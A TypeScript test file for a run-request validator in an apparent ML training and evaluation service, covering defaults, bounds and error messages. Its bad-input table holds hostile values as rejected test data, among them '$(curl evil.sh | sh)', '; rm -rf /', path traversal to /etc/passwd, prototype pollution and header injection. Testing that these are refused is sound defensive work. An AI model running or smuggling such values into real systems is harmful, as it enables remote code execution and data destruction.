import { describe, expect, it } from 'vitest';

import { EvalSpecDto } from './dto/eval-spec.dto.js';
import { ImportSpecDto } from './dto/import-spec.dto.js';
import { TrainSpecDto } from './dto/train-spec.dto.js';
import { CreateRunDto } from './dto/create-run.dto.js';
import { mergeUnder } from './plain-merge.js';
import { EVAL_SPEC_DEFAULTS, IMPORT_SPEC_DEFAULTS, TRAIN_SPEC_DEFAULTS } from './spec-defaults.js';
import { formatRunRequestErrors, validateRunRequest, type RunRequestError } from './validate-run-request.js';

type Plain = Record<string, unknown>;

const TRAIN: Plain = {
  kind: 'train',
  name: 'test run',
  resources: { gpuCount: 1 },
  spec: { model: 'google/gemma-2-2b-it' },
};
const EVAL: Plain = {
  kind: 'eval',
  name: 'test eval',
  resources: { gpuCount: 1 },
  spec: { target: { model: 'google/gemma-2-2b-it' } },
};
const IMPORT: Plain = { kind: 'import', name: 'test import', resources: { gpuCount: 0 }, spec: {} };

/** A base request with fields laid over it (nested objects merge, an eval target is replaced, as with presets). */
const train = (over: Plain = {}): unknown => mergeUnder(TRAIN, over);
const evalRun = (over: Plain = {}): unknown => mergeUnder(EVAL, over, new Set(['spec.target']));
const importRun = (over: Plain = {}): unknown => mergeUnder(IMPORT, over);

function errorsOf(request: unknown): RunRequestError[] {
  const result = validateRunRequest(request);
  if (result.ok) throw new Error(`expected errors, got a valid request: ${JSON.stringify(result.value)}`);
  return result.errors;
}

function valueOf(request: unknown): CreateRunDto {
  const result = validateRunRequest(request);
  if (!result.ok) throw new Error(`expected a valid request:\n${formatRunRequestErrors(result.errors)}`);
  return result.value;
}

const HF_ID_MESSAGE =
  'model must be a Hugging Face model id owner/name (letters, digits, . _ -; no leading or trailing . or -, ' +
  'no -- or ..; at most 96 characters)';
const NAME_MESSAGE = 'name must be letters, digits, spaces and . _ - only, starting with a letter or digit';
const TEMPLATES = 'available: boolq-no-passage-v1, boolq-passage-v1';
const PRESETS =
  'available: eval-boolq-validation, seed-gemma2-2b-boolq, seed-gemma2-2b-boolq-no-passage, smoke-tiny';

describe('validateRunRequest: valid requests and defaults', () => {
  it('fills a train spec with the seed defaults, as instances of the DTO classes', () => {
    const value = valueOf(train());
    expect(value).toBeInstanceOf(CreateRunDto);
    expect(value.spec).toBeInstanceOf(TrainSpecDto);
    expect(JSON.parse(JSON.stringify(value.spec))).toEqual({
      ...TRAIN_SPEC_DEFAULTS,
      model: 'google/gemma-2-2b-it',
      reward: { maxTokens: 512, lowFraction: 0.2, highFraction: 0.8 },
    });
    expect(value.resources.labels).toEqual([]);
  });

  it('lets every given field win over its default, and the penalty budget follow maxTokens', () => {
    const value = valueOf(
      train({ spec: { maxTokens: 256, seqLen: 1024, dataset: { seed: 7 }, checkpointInterval: 10 } }),
    );
    expect(value.spec).toMatchObject({
      maxTokens: 256,
      seqLen: 1024,
      dataset: { name: 'boolq', split: 'train', balance: true, seed: 7 },
      reward: { maxTokens: 256, lowFraction: 0.2, highFraction: 0.8 },
      checkpointInterval: 10,
    });
    const explicit = valueOf(train({ spec: { maxTokens: 256, reward: { maxTokens: 300 } } }));
    expect(explicit.spec).toMatchObject({ reward: { maxTokens: 300, lowFraction: 0.2, highFraction: 0.8 } });
  });

  it('fills an eval spec with the held-out defaults', () => {
    const value = valueOf(evalRun());
    expect(value.spec).toBeInstanceOf(EvalSpecDto);
    expect(JSON.parse(JSON.stringify(value.spec))).toEqual({
      ...EVAL_SPEC_DEFAULTS,
      target: { model: 'google/gemma-2-2b-it' },
      reward: { maxTokens: 512, lowFraction: 0.2, highFraction: 0.8 },
    });
  });

  it('accepts each kind of eval target; an endpoint needs no GPU', () => {
    const checkpoint = { runId: '0b8f4f3e-8f7d-4c59-9a53-3f3b1f6a2c11', step: 49 };
    expect(valueOf(evalRun({ spec: { target: { checkpoint } } })).spec).toMatchObject({
      target: { checkpoint },
    });
    const endpoint = { baseUrl: 'https://inference.example.org:8443/v1', model: 'gemma-2-2b-it' };
    const value = valueOf(evalRun({ resources: { gpuCount: 0 }, spec: { target: { endpoint } } }));
    expect(value.spec).toMatchObject({ target: { endpoint } });
  });

  it('fills an import spec: 1,024 rollouts per step, uploaded files', () => {
    const value = valueOf(importRun({ spec: { origin: 'SPAR gemma2-boolq-calibration results/' } }));
    expect(value.spec).toBeInstanceOf(ImportSpecDto);
    expect(JSON.parse(JSON.stringify(value.spec))).toEqual({
      ...IMPORT_SPEC_DEFAULTS,
      origin: 'SPAR gemma2-boolq-calibration results/',
    });
  });

  it('accepts the optional fields at their limits', () => {
    const value = valueOf(
      train({
        name: 'A'.repeat(100),
        preset: 'smoke-tiny',
        description: 'Line one\n\tLine two: “quotes”, émigré, 日本語 and 🎯',
        resources: {
          gpuCount: 16,
          gpuType: 'A100-80GB',
          labels: Array.from({ length: 16 }, (_, i) => `l${i}`),
        },
        spec: {
          maxSteps: 100_000,
          batchSize: 65_536,
          rolloutsPerExample: 1024,
          seqLen: 131_072,
          maxTokens: 32_768,
        },
      }),
    );
    expect(value.resources.gpuType).toBe('A100-80GB');
    expect(valueOf(train({ resources: { gpuType: null } })).resources.gpuType).toBeNull();
  });

  it('does not modify its input', () => {
    const request = train();
    const before = JSON.stringify(request);
    valueOf(request);
    expect(JSON.stringify(request)).toBe(before);
  });
});

const MB = 'x'.repeat(1024 * 1024);

/** [what, request, the exact errors]: each bad input is named by its path and a message. */
const BAD: [string, unknown, RunRequestError[]][] = [
  // Not a request at all.
  ['an array', [TRAIN], [{ path: '', message: 'a run request must be a JSON object' }]],
  ['a string', 'train', [{ path: '', message: 'a run request must be a JSON object' }]],
  ['null', null, [{ path: '', message: 'a run request must be a JSON object' }]],
  // Unknown fields, at every depth.
  [
    'an unknown top-level field',
    train({ priority: 1 }),
    [{ path: 'priority', message: 'property priority should not exist' }],
  ],
  [
    'an unknown spec field',
    train({ spec: { lr: 1e-5 } }),
    [{ path: 'spec.lr', message: 'property lr should not exist' }],
  ],
  [
    'an unknown nested field',
    train({ spec: { dataset: { shuffle: true } } }),
    [{ path: 'spec.dataset.shuffle', message: 'property shuffle should not exist' }],
  ],
  [
    'an unknown resources field',
    train({ resources: { cpuCount: 4 } }),
    [{ path: 'resources.cpuCount', message: 'property cpuCount should not exist' }],
  ],
  [
    'a __proto__ key',
    JSON.parse(
      '{"kind":"train","name":"x","resources":{"gpuCount":1},"spec":{"model":"a/b","__proto__":{"admin":true}}}',
    ),
    [{ path: 'spec.__proto__', message: 'property __proto__ should not exist' }],
  ],
  [
    'a field of another kind',
    evalRun({ spec: { maxSteps: 10 } }),
    [{ path: 'spec.maxSteps', message: 'property maxSteps should not exist' }],
  ],
  // Missing and wrong types: only the type error, never a cascade.
  [
    'no kind',
    { name: 'x', resources: { gpuCount: 1 }, spec: {} },
    [{ path: 'kind', message: 'kind must be one of the following values: train, eval, import' }],
  ],
  [
    'an unknown kind',
    train({ kind: 'finetune' }),
    [{ path: 'kind', message: 'kind must be one of the following values: train, eval, import' }],
  ],
  [
    'no spec',
    { kind: 'train', name: 'x', resources: { gpuCount: 1 } },
    [{ path: 'spec', message: 'spec must be an object' }],
  ],
  [
    'a spec array',
    train({ spec: [{ model: 'a/b' }] }),
    [{ path: 'spec', message: 'spec must be an object' }],
  ],
  [
    'no resources',
    { kind: 'train', name: 'x', spec: { model: 'a/b' } },
    [{ path: 'resources', message: 'resources must be an object' }],
  ],
  [
    'maxSteps as a string',
    train({ spec: { maxSteps: '50' } }),
    [{ path: 'spec.maxSteps', message: 'maxSteps must be an integer number' }],
  ],
  [
    'maxSteps as a fraction',
    train({ spec: { maxSteps: 2.5 } }),
    [{ path: 'spec.maxSteps', message: 'maxSteps must be an integer number' }],
  ],
  [
    'learningRate as a string',
    train({ spec: { learningRate: '1e-6' } }),
    [
      {
        path: 'spec.learningRate',
        message: 'learningRate must be a number conforming to the specified constraints',
      },
    ],
  ],
  [
    'balance as a string',
    train({ spec: { dataset: { balance: 'yes' } } }),
    [{ path: 'spec.dataset.balance', message: 'balance must be a boolean value' }],
  ],
  [
    'dataset as a string',
    train({ spec: { dataset: 'boolq' } }),
    [{ path: 'spec.dataset', message: 'dataset must be an object' }],
  ],
  [
    'gpuCount as a string',
    train({ resources: { gpuCount: '2' } }),
    [{ path: 'resources.gpuCount', message: 'gpuCount must be an integer number' }],
  ],
  [
    'labels as a string',
    train({ resources: { labels: 'gpu' } }),
    [{ path: 'resources.labels', message: 'labels must be an array' }],
  ],
  [
    'a null optional field',
    train({ spec: { checkpointInterval: null } }),
    [{ path: 'spec.checkpointInterval', message: 'checkpointInterval must be an integer number' }],
  ],
  // Sizes.
  [
    'a negative gpuCount',
    train({ resources: { gpuCount: -1 } }),
    [{ path: 'resources.gpuCount', message: 'gpuCount must not be less than 0' }],
  ],
  [
    '17 GPUs',
    train({ resources: { gpuCount: 17 } }),
    [{ path: 'resources.gpuCount', message: 'gpuCount must not be greater than 16' }],
  ],
  [
    'a train run on no GPU',
    train({ resources: { gpuCount: 0 } }),
    [
      {
        path: 'resources.gpuCount',
        message: 'gpuCount must be at least 1 (got 0): a train run needs a GPU for vLLM and the trainer',
      },
    ],
  ],
  [
    'an import on a GPU',
    importRun({ resources: { gpuCount: 1 } }),
    [{ path: 'resources.gpuCount', message: 'gpuCount must be 0 (got 1): an import runs on no GPU' }],
  ],
  [
    'an eval of a model on no GPU',
    evalRun({ resources: { gpuCount: 0 } }),
    [
      {
        path: 'resources.gpuCount',
        message: 'gpuCount must be at least 1 (got 0): an eval of a model or checkpoint serves it on a GPU',
      },
    ],
  ],
  [
    'a batch not divisible by the rollouts per example',
    train({ spec: { batchSize: 1000, rolloutsPerExample: 3 } }),
    [{ path: 'spec.batchSize', message: 'batchSize (1000) must be divisible by rolloutsPerExample (3)' }],
  ],
  [
    'the default batch with 6 rollouts per example',
    train({ spec: { rolloutsPerExample: 6 } }),
    [{ path: 'spec.batchSize', message: 'batchSize (1024) must be divisible by rolloutsPerExample (6)' }],
  ],
  [
    '10^9 steps',
    train({ spec: { maxSteps: 1e9 } }),
    [{ path: 'spec.maxSteps', message: 'maxSteps must not be greater than 100000' }],
  ],
  [
    '0 steps',
    train({ spec: { maxSteps: 0 } }),
    [{ path: 'spec.maxSteps', message: 'maxSteps must not be less than 1' }],
  ],
  [
    'a batch of 100,000',
    train({ spec: { batchSize: 100_000, rolloutsPerExample: 1 } }),
    [{ path: 'spec.batchSize', message: 'batchSize must not be greater than 65536' }],
  ],
  [
    'seqLen not above maxTokens',
    train({ spec: { seqLen: 512 } }),
    [{ path: 'spec.seqLen', message: 'seqLen (512) must be greater than maxTokens (512)' }],
  ],
  [
    'seqLen 64',
    train({ spec: { seqLen: 64, maxTokens: 32 } }),
    [{ path: 'spec.seqLen', message: 'seqLen must not be less than 128' }],
  ],
  [
    'maxTokens 0',
    train({ spec: { maxTokens: 0 } }),
    [{ path: 'spec.maxTokens', message: 'maxTokens must not be less than 1' }],
  ],
  [
    'learning rate 0',
    train({ spec: { learningRate: 0 } }),
    [{ path: 'spec.learningRate', message: 'learningRate must be a positive number' }],
  ],
  [
    'learning rate 2',
    train({ spec: { learningRate: 2 } }),
    [{ path: 'spec.learningRate', message: 'learningRate must not be greater than 1' }],
  ],
  [
    'temperature 2.5',
    train({ spec: { temperature: 2.5 } }),
    [{ path: 'spec.temperature', message: 'temperature must not be greater than 2' }],
  ],
  [
    'maxAsyncLevel 9',
    train({ spec: { maxAsyncLevel: 9 } }),
    [{ path: 'spec.maxAsyncLevel', message: 'maxAsyncLevel must not be greater than 8' }],
  ],
  [
    'a checkpoint interval beyond the last step',
    train({ spec: { maxSteps: 50, checkpointInterval: 51 } }),
    [
      {
        path: 'spec.checkpointInterval',
        message: 'checkpointInterval (51) must not be greater than maxSteps (50)',
      },
    ],
  ],
  [
    'a checkpoint interval without checkpoints',
    train({ spec: { checkpoints: false, checkpointInterval: 5 } }),
    [{ path: 'spec.checkpointInterval', message: 'checkpointInterval needs checkpoints: true' }],
  ],
  [
    'a dataset seed of 2^32',
    train({ spec: { dataset: { seed: 2 ** 32 } } }),
    [{ path: 'spec.dataset.seed', message: 'seed must not be greater than 4294967295' }],
  ],
  [
    'the test split',
    train({ spec: { dataset: { split: 'test' } } }),
    [{ path: 'spec.dataset.split', message: 'split must be one of the following values: train, validation' }],
  ],
  [
    'another dataset',
    train({ spec: { dataset: { name: 'squad' } } }),
    [{ path: 'spec.dataset.name', message: 'name must be one of the following values: boolq' }],
  ],
  [
    'a dataset path',
    train({ spec: { dataset: { path: '/data/boolq.jsonl' } } }),
    [
      {
        path: 'spec.dataset.path',
        message:
          'path is not supported yet: datasets are read from the agent host data directory, by name and split',
      },
    ],
  ],
  [
    'penalty bounds out of order',
    train({ spec: { reward: { lowFraction: 0.9 } } }),
    [{ path: 'spec.reward', message: 'reward: need 0 <= lowFraction < highFraction < 1 (got 0.9, 0.8)' }],
  ],
  [
    'a penalty bound of 1',
    train({ spec: { reward: { highFraction: 1 } } }),
    [{ path: 'spec.reward', message: 'reward: need 0 <= lowFraction < highFraction < 1 (got 0.2, 1)' }],
  ],
  [
    'prime-rl main',
    train({ spec: { primeRl: { version: 'main' } } }),
    [
      {
        path: 'spec.primeRl.version',
        message: 'version must be one of the following values: v0.4.0, v0.6.0, main-559b447',
      },
    ],
  ],
  // Model ids: only owner/name, nothing a shell or a path could use.
  [
    'a model without owner',
    train({ spec: { model: 'gemma-2-2b-it' } }),
    [{ path: 'spec.model', message: HF_ID_MESSAGE }],
  ],
  [
    'a model path',
    train({ spec: { model: '../../etc/passwd' } }),
    [{ path: 'spec.model', message: HF_ID_MESSAGE }],
  ],
  [
    'an absolute model path',
    train({ spec: { model: '/models/gemma' } }),
    [{ path: 'spec.model', message: HF_ID_MESSAGE }],
  ],
  [
    'a model like a flag',
    train({ spec: { model: '--trust-remote-code/x' } }),
    [{ path: 'spec.model', message: HF_ID_MESSAGE }],
  ],
  [
    'a model with a space',
    train({ spec: { model: 'google/gemma 2' } }),
    [{ path: 'spec.model', message: HF_ID_MESSAGE }],
  ],
  [
    'a model with a ;',
    train({ spec: { model: 'google/gemma;ls' } }),
    [{ path: 'spec.model', message: HF_ID_MESSAGE }],
  ],
  [
    'a model of 97 characters',
    train({ spec: { model: `o/${'m'.repeat(95)}` } }),
    [{ path: 'spec.model', message: HF_ID_MESSAGE }],
  ],
  // Names end up in TOML and file names.
  ['a name with a newline', train({ name: 'run\nname = "x"' }), [{ path: 'name', message: NAME_MESSAGE }]],
  ['a name with a shell command', train({ name: '; rm -rf /' }), [{ path: 'name', message: NAME_MESSAGE }]],
  [
    'a name with a substitution',
    train({ name: '$(curl evil.sh | sh)' }),
    [{ path: 'name', message: NAME_MESSAGE }],
  ],
  ['a name with a path', train({ name: '../../etc/passwd' }), [{ path: 'name', message: NAME_MESSAGE }]],
  ['a name with a NUL', train({ name: 'run\u0000x' }), [{ path: 'name', message: NAME_MESSAGE }]],
  ['a name with quotes', train({ name: 'run "x"' }), [{ path: 'name', message: NAME_MESSAGE }]],
  ['a name with a backslash', train({ name: 'run\\x' }), [{ path: 'name', message: NAME_MESSAGE }]],
  ['a name that is a dot', train({ name: '..' }), [{ path: 'name', message: NAME_MESSAGE }]],
  ['a name with a trailing space', train({ name: 'run ' }), [{ path: 'name', message: NAME_MESSAGE }]],
  [
    'a name of 1 MB',
    train({ name: MB }),
    [{ path: 'name', message: 'name must be shorter than or equal to 100 characters' }],
  ],
  [
    'an empty name',
    train({ name: '' }),
    [
      { path: 'name', message: NAME_MESSAGE },
      { path: 'name', message: 'name should not be empty' },
    ],
  ],
  ['a name that is a number', train({ name: 42 }), [{ path: 'name', message: 'name must be a string' }]],
  // Free text.
  [
    'a description with a NUL',
    train({ description: 'fine\u0000' }),
    [{ path: 'description', message: 'description must not contain control characters' }],
  ],
  [
    'a description with a terminal escape',
    train({ description: 'red \u001b[31m' }),
    [{ path: 'description', message: 'description must not contain control characters' }],
  ],
  [
    'a description with a bidi override',
    train({ description: 'abc \u202e cba' }),
    [{ path: 'description', message: 'description must not contain control characters' }],
  ],
  [
    'a description of 1 MB',
    train({ description: MB }),
    [{ path: 'description', message: 'description must be shorter than or equal to 2000 characters' }],
  ],
  // Resources.
  [
    'a GPU type with a ;',
    train({ resources: { gpuType: 'A100;rm' } }),
    [
      {
        path: 'resources.gpuType',
        message:
          'gpuType must be a GPU model such as A100-80GB or H100: letters, digits, space and . _ - (at most 64)',
      },
    ],
  ],
  [
    '17 labels',
    train({ resources: { labels: Array.from({ length: 17 }, (_, i) => `l${i}`) } }),
    [{ path: 'resources.labels', message: 'labels must contain no more than 16 elements' }],
  ],
  [
    'an upper-case label',
    train({ resources: { labels: ['EU'] } }),
    [{ path: 'resources.labels', message: 'labels must each be 1 to 63 characters of [a-z0-9._-]' }],
  ],
  [
    'a repeated label',
    train({ resources: { labels: ['a', 'a'] } }),
    [{ path: 'resources.labels', message: "All labels's elements must be unique" }],
  ],
  // Names of things in configs/.
  [
    'an unknown prompt template',
    train({ spec: { promptTemplate: 'boolq-passage-v9' } }),
    [
      {
        path: 'spec.promptTemplate',
        message: `promptTemplate 'boolq-passage-v9' is not a prompt template in configs/prompts (${TEMPLATES})`,
      },
    ],
  ],
  [
    'a prompt template path',
    train({ spec: { promptTemplate: '../presets/smoke-tiny' } }),
    [
      {
        path: 'spec.promptTemplate',
        message: 'promptTemplate must be a template name: [a-z0-9._-], at most 64',
      },
    ],
  ],
  [
    'an unknown preset',
    train({ preset: 'gemma-7b' }),
    [{ path: 'preset', message: `preset 'gemma-7b' does not exist (${PRESETS})` }],
  ],
  [
    'a preset path',
    train({ preset: '../secrets' }),
    [{ path: 'preset', message: 'preset must be a preset name: [a-z0-9-], at most 64' }],
  ],
  // Eval targets and endpoints.
  [
    'two eval targets',
    evalRun({
      spec: { target: { model: 'a/b', endpoint: { baseUrl: 'http://localhost:8000/v1', model: 'm' } } },
    }),
    [
      {
        path: 'spec.target',
        message: 'target must have exactly one of model, checkpoint, endpoint (got model, endpoint)',
      },
    ],
  ],
  [
    'no eval target',
    evalRun({ resources: { gpuCount: 0 }, spec: { target: {} } }),
    [
      {
        path: 'spec.target',
        message: 'target must have exactly one of model, checkpoint, endpoint (got none)',
      },
    ],
  ],
  [
    'an endpoint URL with credentials',
    evalRun({
      spec: { target: { endpoint: { baseUrl: 'https://user:hunter2@api.example.org/v1', model: 'm' } } },
    }),
    [
      {
        path: 'spec.target.endpoint.baseUrl',
        message:
          'baseUrl must not contain credentials (user:password@): keys live in the agent host environment',
      },
    ],
  ],
  [
    'an endpoint URL with a user only',
    evalRun({ spec: { target: { endpoint: { baseUrl: 'http://token@10.0.0.5:8000/v1', model: 'm' } } } }),
    [
      {
        path: 'spec.target.endpoint.baseUrl',
        message:
          'baseUrl must not contain credentials (user:password@): keys live in the agent host environment',
      },
    ],
  ],
  [
    'a file URL endpoint',
    evalRun({ spec: { target: { endpoint: { baseUrl: 'file:///etc/passwd', model: 'm' } } } }),
    [{ path: 'spec.target.endpoint.baseUrl', message: 'baseUrl must be an http or https URL' }],
  ],
  [
    'a relative endpoint URL',
    evalRun({ spec: { target: { endpoint: { baseUrl: '/v1', model: 'm' } } } }),
    [{ path: 'spec.target.endpoint.baseUrl', message: 'baseUrl must be an absolute http(s) URL' }],
  ],
  [
    'an endpoint URL with a newline',
    evalRun({ spec: { target: { endpoint: { baseUrl: 'http://h/v1\nX-Injected: 1', model: 'm' } } } }),
    [
      {
        path: 'spec.target.endpoint.baseUrl',
        message: 'baseUrl must not contain spaces or control characters',
      },
    ],
  ],
  [
    'an endpoint model with a space',
    evalRun({ spec: { target: { endpoint: { baseUrl: 'http://h/v1', model: 'my model' } } } }),
    [
      {
        path: 'spec.target.endpoint.model',
        message: 'model must be a model name of letters, digits and . _ : / @ + - without .. (at most 200)',
      },
    ],
  ],
  [
    'an endpoint model that climbs out of a directory',
    evalRun({ spec: { target: { endpoint: { baseUrl: 'http://h/v1', model: 'org/../../etc/passwd' } } } }),
    [
      {
        path: 'spec.target.endpoint.model',
        message: 'model must be a model name of letters, digits and . _ : / @ + - without .. (at most 200)',
      },
    ],
  ],
  [
    'a checkpoint of a run that is not a uuid',
    evalRun({ spec: { target: { checkpoint: { runId: '42', step: 1 } } } }),
    [{ path: 'spec.target.checkpoint.runId', message: 'runId must be a UUID' }],
  ],
  [
    'a checkpoint at step -1',
    evalRun({
      spec: { target: { checkpoint: { runId: '0b8f4f3e-8f7d-4c59-9a53-3f3b1f6a2c11', step: -1 } } },
    }),
    [{ path: 'spec.target.checkpoint.step', message: 'step must not be less than 0' }],
  ],
  [
    '65 samples per question',
    evalRun({ spec: { samplesPerQuestion: 65 } }),
    [{ path: 'spec.samplesPerQuestion', message: 'samplesPerQuestion must not be greater than 64' }],
  ],
  [
    'a concurrency of 0',
    evalRun({ spec: { concurrency: 0 } }),
    [{ path: 'spec.concurrency', message: 'concurrency must not be less than 1' }],
  ],
  [
    'an eval limit of 0',
    evalRun({ spec: { dataset: { limit: 0 } } }),
    [{ path: 'spec.dataset.limit', message: 'limit must not be less than 1' }],
  ],
  // Imports.
  [
    'an import from a path',
    importRun({ spec: { source: 'path' } }),
    [{ path: 'spec.source', message: 'source must be one of the following values: upload' }],
  ],
  [
    'an origin of 501 characters',
    importRun({ spec: { origin: 'o'.repeat(501) } }),
    [{ path: 'spec.origin', message: 'origin must be shorter than or equal to 500 characters' }],
  ],
];

describe('validateRunRequest: bad input names its field', () => {
  it.each(BAD)('%s', (_what, request, expected) => {
    expect(errorsOf(request)).toEqual(expected);
  });

  it('reports every problem at once, each at its own path', () => {
    const errors = errorsOf(
      train({
        name: 'a;b',
        extra: 1,
        resources: { gpuCount: -1 },
        spec: { maxSteps: 1e9, batchSize: 100, rolloutsPerExample: 8 },
      }),
    );
    expect(errors.map((e) => e.path).sort()).toEqual(
      ['extra', 'name', 'resources.gpuCount', 'spec.batchSize', 'spec.maxSteps'].sort(),
    );
  });

  it('never echoes a long value back', () => {
    const errors = errorsOf(train({ name: MB, description: MB, spec: { model: MB, promptTemplate: MB } }));
    for (const error of errors) expect(error.message.length).toBeLessThan(300);
  });

  it('formats errors as lines for a terminal', () => {
    expect(formatRunRequestErrors(errorsOf(train({ spec: { maxSteps: 1e9 } })))).toBe(
      'spec.maxSteps: maxSteps must not be greater than 100000',
    );
  });
});
